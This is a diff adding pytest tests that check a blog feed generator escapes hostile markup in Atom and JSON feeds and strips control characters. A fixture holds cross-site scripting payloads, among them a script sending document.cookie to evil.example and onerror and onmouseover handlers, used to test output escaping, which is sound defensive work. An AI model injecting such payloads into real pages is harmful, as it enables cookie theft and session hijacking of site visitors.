@@ -57,3 +57,61 @@ def test_feed_cli_for_a_blog_and_for_a_subscription(redis_url, edited_blog):
     sub = run_cli("feed", "--subscription", "rescues", "--format", "atom", redis_url=redis_url)
     titles = [e.findtext(f"{{{ATOM}}}title") for e in ET.fromstring(sub.stdout).findall(f"{{{ATOM}}}entry")]
     assert titles == ["Sallow End rescue"]
+
+
+HOSTILE_TITLE = 'Flood <script>alert("t")</script> warning'
+HOSTILE_BODY = ('Water rose <img src=x onerror="window.pwned=1"> overnight. <script>document.location='
+                '"https://evil.example/?c="+document.cookie</script> & <b onmouseover=steal()>more</b>')
+
+
+@pytest.fixture
+def hostile_blog(conn):
+    from tests.web.server import event_json, publish
+
+    publish(conn, event_json("h1", blog="hostile", post_id="p1", title=HOSTILE_TITLE, body=HOSTILE_BODY),
+            blog="hostile")
+    return KEYS.blog_events("hostile")
+
+
+def test_atom_feed_escapes_scripts_and_event_handlers_and_stays_well_formed(conn, hostile_blog):
+    xml = atom_feed(latest_posts(conn, hostile_blog, 10), title="hostile <feed>", feed_id="urn:x")
+    root = ET.fromstring(xml)  # well-formed
+    assert "<script" not in xml and "<img" not in xml and "<b " not in xml
+    assert "&lt;script&gt;" in xml and "&lt;img src=x onerror=" in xml
+    assert {el.tag.split("}")[0] + "}" for el in root.iter()} == {f"{{{ATOM}}}"}  # no element but Atom's
+    assert not [el for el in root.iter() if any(a.startswith("on") for a in el.attrib)]  # no handler attribute
+    [entry] = root.findall(f"{{{ATOM}}}entry")
+    title, content = entry.find(f"{{{ATOM}}}title"), entry.find(f"{{{ATOM}}}content")
+    assert title.get("type") == content.get("type") == "text"  # a reader shows characters, never markup
+    assert title.text == HOSTILE_TITLE and content.text == HOSTILE_BODY  # exactly the source text
+    assert root.find(f"{{{ATOM}}}title").text == "hostile <feed>"
+
+
+def test_json_feed_carries_hostile_markup_as_plain_text_only(conn, hostile_blog):
+    feed = json_feed(latest_posts(conn, hostile_blog, 10), title="hostile")
+    [item] = feed["items"]
+    assert item["title"] == HOSTILE_TITLE and item["content_text"] == HOSTILE_BODY
+    assert "content_html" not in item and "summary" not in item  # no field a reader would render as HTML
+    assert json.loads(json.dumps(feed, ensure_ascii=False)) == feed
+
+
+def test_feed_cli_atom_output_of_a_hostile_post_parses_and_keeps_the_text(redis_url, hostile_blog):
+    result = run_cli("feed", "--blog", "hostile", "--format", "atom", redis_url=redis_url)
+    assert result.returncode == 0, result.stderr
+    assert b"<script" not in result.stdout
+    [entry] = ET.fromstring(result.stdout).findall(f"{{{ATOM}}}entry")
+    assert entry.findtext(f"{{{ATOM}}}content") == HOSTILE_BODY
+
+
+def test_characters_xml_cannot_carry_are_dropped_from_atom_and_escaped_in_json_feed(conn):
+    from tests.web.server import event_json, publish
+
+    title = "Road clo\x07s\x1bed\x0b"  # as tests/fuzz/corpus/text-control-characters.txt publishes it
+    publish(conn, event_json("c1", blog="ctl", post_id="p1", title=title, body="line\x0c one\ttab\nnew\x00"),
+            blog="ctl")
+    events = latest_posts(conn, KEYS.blog_events("ctl"), 10)
+    [entry] = ET.fromstring(atom_feed(events, title="ctl", feed_id="urn:x")).findall(f"{{{ATOM}}}entry")
+    assert entry.findtext(f"{{{ATOM}}}title") == "Road closed"
+    assert entry.findtext(f"{{{ATOM}}}content") == "line one\ttab\nnew"
+    [item] = json_feed(events, title="ctl")["items"]
+    assert item["title"] == title  # JSON escapes them: nothing lost
